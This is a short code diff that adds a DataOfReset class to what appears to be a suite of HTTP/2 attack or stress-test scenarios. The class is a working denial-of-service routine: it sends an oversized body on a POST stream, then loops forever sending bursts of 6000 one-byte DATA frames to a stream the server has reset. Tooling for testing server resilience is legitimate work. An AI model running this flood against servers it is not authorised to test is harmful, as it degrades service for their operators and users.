@@ -372,6 +372,20 @@ class PaddedDataLong(DataFlood):
     body = h2.data(h2.padded(b"x", 255), 1, end_stream=False, flags=h2.PADDED)
 
 
+class DataOfReset(Attack):
+    """DATA of one byte on a stream that the server has reset: passed over for nothing."""
+
+    def script(self):
+        head = block(method=POST, more=field("content-length", "1"))
+        yield self.opening() + headers(head, 1, end_stream=False) + h2.data(b"22", 1)
+        while True:
+            yield burst_of(type(self), 0)
+
+    @staticmethod
+    def burst(number):
+        return h2.data(b"x", 1, end_stream=False) * 6000
+
+
 class TinyData(Paced):
     """Uploads in DATA of one byte: as many frames as the windows allow, each a chunk for the worker."""
     batch = 4
